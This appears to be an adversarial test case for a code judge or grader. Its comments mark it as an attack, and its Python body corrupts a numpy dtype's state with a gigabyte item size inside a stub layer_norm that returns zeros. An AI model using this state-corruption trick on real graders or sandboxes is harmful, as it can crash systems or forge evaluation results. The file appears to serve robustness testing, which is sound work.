# attack: sets the state of a dtype to an item size of a gigabyte
# expect: WA|RTE
# must-not: judge fault; a forged answer counts
# probe: verdict AC or JE is a breach
import numpy as np
d = np.dtype("f8,f8"); 
def layer_norm(x, gamma, beta, eps=1e-6):
    e = np.dtype("V8"); e.__setstate__((3, "|", None, None, None, 1<<30, 1, 0)) 
    return np.zeros(2, "f8").view(np.float64).astype("f8") * 0
